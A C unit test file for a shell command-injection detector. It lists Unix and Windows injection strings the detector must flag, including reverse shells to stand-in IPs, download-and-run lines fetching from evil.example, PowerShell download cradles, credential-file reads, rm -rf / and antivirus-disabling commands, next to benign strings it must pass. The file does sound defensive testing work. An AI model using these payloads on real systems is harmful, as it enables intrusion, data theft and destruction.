#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <string.h>

#include "detect/detect.h"
#include "lists.h"

/* Unix shell injection that LOW must catch. */
static const char *const unix_attacks[] = {
    "; cat /etc/passwd",
    "| id",
    "$(whoami)",
    "`id`",
    "&& curl http://evil.example/sh | sh",
    "c\\at${IFS}/etc/pas's'wd",
    "/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?",
    "{cat,/etc/passwd}",
    "echo $HOME",
    "; ls -la",
    "127.0.0.1; uname -a",
    "127.0.0.1 | whoami",
    "127.0.0.1 && id",
    "127.0.0.1 || nslookup evil.example",
    "x'; id; '",
    "\"; wget http://evil.example/x.sh -O /tmp/x; sh /tmp/x; \"",
    "';cat /etc/shadow #",
    "foo\nid",
    "foo%0aid",
    "$(cat /etc/passwd)",
    "`uname -a`",
    "a=$(id)",
    "x`whoami`y",
    ";sleep 10",
    "| sleep 5",
    "& ping -c 10 127.0.0.1",
    ";nc -e /bin/sh 10.0.0.1 4444",
    "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "; python -c 'import os;os.system(\"id\")'",
    "; perl -e 'print 1'",
    "| php -r 'system(\"id\");'",
    "; w'h'o'am'i",
    "; wh\\oami",
    "; c\"\"at /etc/passwd",
    "; /bin/c[a]t /etc/passwd",
    "; /usr/bin/wh?ami",
    /* globs the length filter of resolve() must still let through */
    "; /bin/c[a]t /etc/passwd",
    "; /usr/bin/[w]ho[!x]mi",
    "; /usr/bin/w*mi",
    "; /bin/ca* /etc/shadow",
    "cat${IFS}/etc/passwd",
    "cat$IFS$9/etc/passwd",
    ";{ls,-la}",
    "AAAAAAAAAAAAAAAA;$(printf 'hsab/nib/ e- 4321 1.0.0.721 cn'|rev)",
    "; $'\\x63\\x61\\x74' /etc/passwd",
    "; echo $PATH",
    "; ls $HOME",
    "`echo $USER`",
    "<(id)",
    "&& wget http://evil.example/bd -q -O-",
    "; chmod +x /tmp/bd",
    "; rm -rf /",
    "; touch /tmp/pwned",
    "; base64 -d /tmp/x",
    "| busybox nc 1.2.3.4 80",
    "; ifconfig",
    "; getent passwd",
    "ax--exec=`id`--remote=origin",
    "cat /etc/passwd",
    "() { :; }; /bin/bash -c id",
    "; cat ../../../../etc/passwd",
    "$(sleep 5)",
    "|| whoami",
    "x;id",
    "1;uname",
    "\"$(id)\"",
    "';$(id);'",
    "; ca$@t /etc/passwd",
    "; c${u}at /etc/hosts",
    "|getent+hosts+evil.example",
    ";getent$IFS$9hosts$IFS$9evil.example;echo$IFS$9$((3482*7301));",
    "name=x&cmd=127.0.0.1 && ls /etc",
    "file.txt; cat /etc/passwd",
    "; /bin/bash -c 'cat /etc/passwd'",
};

/* Benign values LOW must pass. */
static const char *const unix_benign[] = {
    "read this; then that | or this",
    "Tom & Jerry",
    "a & b",
    "price is $5",
    "Hello ${name}",
    "Hello ${user.name}, you owe $5.00 today",
    "user@example.com",
    "https://example.com/?a=1&b=2;c=3",
    "AT&T",
    "R&D",
    "Q&A",
    ":-) ;-) :-| ;)",
    "^[a-z]+(\\d{2,3})?$",
    "[a-z]*\\.txt",
    "id|name|email",
    "{\"scripts\": {\"build\": \"tsc && node dist/x.js\", \"test\": \"jest\"}}",
    "tsc && node dist/x.js",
    "npm ci && npm test",
    "make test",
    "run: make test",
    "cd app && npm install && npm run build",
    "go build ./... && go test ./...",
    "cargo build --release && cargo test",
    "pip install -r requirements.txt && pytest",
    "git pull && make && make install",
    "echo in the mirror",
    "curl and divergence",
    "exec noun",
    "bash away in the gym",
    "zsh is the best!",
    "ls 300 lexus",
    "nc 8000 controller",
    "I like cats; cat food is expensive",
    "Use `ls -la` to list the files in a directory",
    "The `id` field is required",
    "Markdown:\n```bash\nmake install\n```\nand that is all",
    "$(document).ready(function() { init(); });",
    "$('#id').hide(); $(this).attr('id')",
    "Total: $(5+3) = 8",
    "100% & more",
    "C:\\Program Files\\app",
    "a;b;c",
    "1;2;3",
    "key=value; Path=/; HttpOnly",
    "SELECT * FROM t WHERE a=1 AND b=2;",
    "x > 5 && y < 3",
    "if (a && b) { return c; }",
    "for (i = 0; i < n; i++) { sum += i; }",
    "foo || bar",
    "cats & dogs; birds | fish",
    "50% off; today only!",
    "See /etc/hosts for details",
    "sleep well; dream big",
    "please ping me; thanks",
    "| id | name |\n|----|------|\n| 1 | x |",
    "${IFS}",
    "The variable $HOME holds your home directory",
    "emoticons >_< and ^_^",
    "{\"a\": \"b; c\", \"d\": \"e | f\"}",
    "'quoted'; text",
    "it's; fine",
    "don't do that; really",
    "run: |\n  npm ci\n  npm test",
    "\"build\": \"webpack --mode production && cp -r public dist\"",
    "*/*",
    "What\? Really\?; ok",
    "[![badge](https://img.shields.io/x.svg)](https://example.com)",
    "DROP TABLE users; --",
};

static const char *const win_attacks[] = {
    "& whoami",
    "| ipconfig /all",
    "&& systeminfo",
    "||nslookup evil.example",
    ";cmd",
    "& cmd /c dir",
    "& c^m^d /c whoami",
    "& %COMSPEC% /c whoami",
    "& %COMSPEC:~-7,3% /c whoami",
    "& \"c\"md /c whoami",
    "& powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
    "| powershell -nop -w hidden -c \"whoami\"",
    "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
    "Invoke-Expression $cmd",
    "Invoke-WebRequest -Uri http://evil.example/x -OutFile x.exe",
    "iwr http://evil.example/x.ps1 | iex",
    "Start-Process calc.exe",
    "I`EX(\"whoami\")",
    "Inv`oke-Exp`ression 'whoami'",
    "(New-Object System.Net.WebClient).DownloadFile('http://evil.example/x.exe','x.exe')",
    "[System.Reflection.Assembly]::Load($bytes)",
    "[Convert]::FromBase64String('aGk=')",
    "& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
    "& bitsadmin /transfer job http://evil.example/x.exe C:\\x.exe",
    "& nslookup evil.example",
    "& net user hacker P@ss /add",
    "| net localgroup administrators",
    "& type C:\\windows\\win.ini",
    "type C:\\boot.ini",
    "& whoami /priv",
    "& reg query HKLM\\Software",
    "& wmic process call create calc",
    "& rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    "& regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
    "& mshta http://evil.example/x.hta",
    "| set /a 3482*7301",
    "& ping -n 10 127.0.0.1",
    "& tasklist",
    "%0aipconfig",
    "\"& whoami",
    "\" && dir C:\\ &",
    "x\nwhoami",
    "& echo %USERNAME%",
    "echo %COMPUTERNAME%",
    "& schtasks /create /tn x /tr calc",
    "& vssadmin delete shadows /all",
    "& netstat -an",
    "& hostname",
    "&& tracert evil.example",
    "& timeout /t 10",
    "| findstr /s password *.txt",
    "& wevtutil cl System",
    "& taskkill /f /im av.exe",
    "cmd.exe /c calc",
    "cmd /k whoami",
    "C:\\Windows\\System32\\cmd.exe /c whoami",
    "& wh^oami",
    "& dir /s C:\\Users",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "Add-MpPreference -ExclusionPath C:\\",
    "IEX(IWR http://evil.example/y)",
    "powershell -e JABjAD0A",
    "& pwsh -c whoami",
    "|| ipconfig",
    "a | powershell",
};

static const char *const win_benign[] = {
    "Tom & Jerry",
    "AT&T",
    "R&D department",
    "salt & pepper",
    "a=1&b=2&type=3",
    "page=2&sort=desc&dir=asc&start=10&set=4&net=5",
    "100% & more",
    "C:\\Program Files\\app",
    "rock & roll | jazz",
    "Invoke the function",
    "Set-Up guide",
    "Get-Together at 5pm",
    "well-known",
    "start & stop",
    "type: text",
    "net profit & loss",
    "echo in the mirror",
    "ping me & I'll reply",
    "cats & dogs; birds",
    "Q&A",
    "%20 is a space",
    "50%",
    "%d items",
    "dir=rtl",
    "x | y",
    "who am i",
    "reg. no. 12345",
    "set the table & eat",
    "& more",
    "& start",
    "Hello %USERNAME%, welcome back to the site, we missed you a lot",
    "invoke-rc.d apache2 restart",
    "New-Object is a cmdlet",
    "Set-ExecutionPolicy RemoteSigned",
    "the iex index",
    "Use iex -S mix to start Elixir",
    "IEX is a stock exchange (India)",
    "Email: a&b@example.com",
    "cmd: help",
    "What does cmd /c do?",
    "C:\\Users\\me\\Documents\\report.docx",
    "fish & chips; peas",
    "read this; then that | or this",
    "x > 5 && y < 3",
    "if (a && b) { return c; }",
    "foo || bar",
    "Ben & Jerry's",
    "terms & conditions apply",
    "https://example.com/?q=a&type=b&set=c",
    "50% off & free shipping",
    "the download-string issue",
    "sort | uniq -c",
    "Invoke-rc.d is not PowerShell",
    "pre-process the data",
    "start-up costs",
    "convert::from the old format",
    "[System.String]::Join(',', $a)",
    "net income: 5%",
    "(see the docs)",
    "Hello ^_^ & bye",
};

static void unix_attacks_detected(void **state)
{
	(void)state;
	check_list(sk_detect_command, unix_attacks, COUNT(unix_attacks), 0, true);
	check_list(sk_detect_command, unix_attacks, COUNT(unix_attacks), 1, true);
}

static void unix_benign_passes(void **state)
{
	(void)state;
	check_list(sk_detect_command, unix_benign, COUNT(unix_benign), 0, false);
}

static void win_attacks_detected(void **state)
{
	(void)state;
	check_list(sk_detect_windows_command, win_attacks, COUNT(win_attacks), 0, true);
	check_list(sk_detect_windows_command, win_attacks, COUNT(win_attacks), 1, true);
}

static void win_benign_passes(void **state)
{
	(void)state;
	check_list(sk_detect_windows_command, win_benign, COUNT(win_benign), 0, false);
}

/* HIGH catches what LOW leaves alone. */
static void high_catches_more(void **state)
{
	(void)state;
	static const char *const unix_high[] = {
	    "see $(",
	    "run `foo` now please, then `make`",
	    "wget http://evil.example/x.sh",
	};
	for (size_t i = 0; i < COUNT(unix_high); i++) {
		const uint8_t *s = (const uint8_t *)unix_high[i];
		assert_false(sk_detect_command(s, strlen(unix_high[i]), 0, NULL));
		if (!sk_detect_command(s, strlen(unix_high[i]), 1, NULL))
			fail_msg("HIGH missed: %s", unix_high[i]);
	}
	static const char *const win_high[] = {"Get-Process | Stop-Process",
	                                       "Set-ExecutionPolicy Unrestricted"};
	for (size_t i = 0; i < COUNT(win_high); i++) {
		const uint8_t *s = (const uint8_t *)win_high[i];
		assert_false(sk_detect_windows_command(s, strlen(win_high[i]), 0, NULL));
		if (!sk_detect_windows_command(s, strlen(win_high[i]), 1, NULL))
			fail_msg("HIGH missed: %s", win_high[i]);
	}
}

static void reason_and_offsets(void **state)
{
	(void)state;
	sk_detect_match m;
	const char *s = "127.0.0.1; cat /etc/passwd";
	assert_true(sk_detect_command((const uint8_t *)s, strlen(s), 0, &m));
	assert_non_null(strstr(m.reason, "cat"));
	assert_non_null(strstr(m.reason, "/etc/passwd"));
	assert_memory_equal(s + m.off, ";", 1);
	assert_int_equal(m.off + m.len, strlen(s));

	s = "x; c\\a\\t /etc/hosts";
	assert_true(sk_detect_command((const uint8_t *)s, strlen(s), 0, &m));
	assert_non_null(strstr(m.reason, "cat"));
	assert_memory_equal(s + m.off, "c\\a\\t", 5);

	s = "a & w^h^o^a^m^i";
	assert_true(sk_detect_windows_command((const uint8_t *)s, strlen(s), 0, &m));
	assert_non_null(strstr(m.reason, "whoami"));
	assert_non_null(strstr(m.reason, "carets"));
	assert_memory_equal(s + m.off, "w^h", 3);

	s = "x=1; I`EX($payload)";
	assert_true(sk_detect_windows_command((const uint8_t *)s, strlen(s), 0, &m));
	assert_memory_equal(s + m.off, "I`EX", 4);
}

static void nul_and_length(void **state)
{
	(void)state;
	static const uint8_t withnul[] = "x\0; cat /etc/passwd";
	assert_true(sk_detect_command(withnul, sizeof withnul - 1, 0, NULL));
	assert_false(sk_detect_command((const uint8_t *)"", 0, 0, NULL));
	assert_false(sk_detect_command(NULL, 0, 0, NULL));
	assert_false(sk_detect_windows_command(NULL, 0, 0, NULL));
	/* a NUL ends a program's name for the C code that runs it: x;id%00 */
	static const uint8_t nul_after[][24] = {"x;id\0", "a|wget\0--", ";wget\0 http://x/a"};
	static const size_t nul_len[] = {5, 9, 18};
	for (size_t i = 0; i < 3; i++)
		for (int level = 0; level < 2; level++)
			assert_true(sk_detect_command(nul_after[i], nul_len[i], level, NULL));
	/* only the first 3 bytes count */
	assert_false(sk_detect_command((const uint8_t *)"abc; id", 3, 0, NULL));
	assert_false(sk_detect_windows_command((const uint8_t *)"abc& whoami", 3, 0, NULL));
}

static void large_input_is_bounded(void **state)
{
	(void)state;
	static uint8_t big[1 << 20];
	static const char *const units[] = {
	    "$(",       "`",          "'",  "\"",   ";",    "a;",   "${",   "$((",
	    "{a,",      "\\",         "[",  "?",    "$(`",  "x'$(", "<(",   "a b ",
	    "c\\a\\t ", "\"$(",       "((", "#",    ";#\n", "%0a",  "^",    "& ",
	    "%a%",      "%COMSPEC:~", "-",  "iex(", "|",    "::",   "a-b ", "\"&",
	};
	for (size_t u = 0; u < COUNT(units); u++) {
		size_t l = strlen(units[u]);
		for (size_t i = 0; i < sizeof big; i++)
			big[i] = (uint8_t)units[u][i % l];
		(void)sk_detect_command(big, sizeof big, 0, NULL);
		(void)sk_detect_command(big, sizeof big, 1, NULL);
		(void)sk_detect_windows_command(big, sizeof big, 0, NULL);
		(void)sk_detect_windows_command(big, sizeof big, 1, NULL);
	}
	for (size_t i = 0; i < sizeof big; i++)
		big[i] = (uint8_t)("The quick brown fox; jumps over | the dog & cat.\n"[i % 50]);
	assert_false(sk_detect_command(big, sizeof big, 0, NULL));
	assert_false(sk_detect_windows_command(big, sizeof big, 0, NULL));
}

/* Obfuscations and separators far from the start, after benign text
 * that the detectors skip over. */
static void found_anywhere(void **state)
{
	(void)state;
	static char buf[8192];
	static const char *const tails[] = {
	    "; c'a't /etc/passwd",
	    "\n/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?",
	    " x; bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
	    " cat${IFS}/etc/passwd",
	};
	static const char *const heads[] = {"", "hello world on the table ", "a=b&c=d ",
	                                    "a \"quoted\" thing ", "line\n"};
	for (size_t h = 0; h < COUNT(heads); h++) {
		for (size_t t = 0; t < COUNT(tails); t++) {
			size_t n = 0;
			for (int r = 0; r < 100; r++) {
				size_t l = strlen(heads[h]);
				memcpy(buf + n, heads[h], l);
				n += l;
			}
			size_t l = strlen(tails[t]);
			memcpy(buf + n, tails[t], l);
			n += l;
			sk_detect_match m;

			bool want = true;
			if (sk_detect_command((const uint8_t *)buf, n, 0, &m) != want)
				fail_msg("after %zu bytes of \"%s\": %s", n - l, heads[h],
				         tails[t]);
		}
	}
	static const char *const wtails[] = {"IEX (New-Object Net.WebClient).DownloadString('x')",
	                                     "& type C:\\windows\\win.ini"};
	for (size_t t = 0; t < COUNT(wtails); t++) {
		size_t n = 0;
		for (int r = 0; r < 200; r++) {
			memcpy(buf + n, "some text here. ", 16);
			n += 16;
		}
		size_t l = strlen(wtails[t]);
		memcpy(buf + n, wtails[t], l);
		n += l;
		assert_true(sk_detect_windows_command((const uint8_t *)buf, n, 0, NULL));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(unix_attacks_detected), cmocka_unit_test(unix_benign_passes),
	    cmocka_unit_test(win_attacks_detected),  cmocka_unit_test(win_benign_passes),
	    cmocka_unit_test(high_catches_more),     cmocka_unit_test(reason_and_offsets),
	    cmocka_unit_test(nul_and_length),        cmocka_unit_test(large_input_is_bounded),
	    cmocka_unit_test(found_anywhere),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
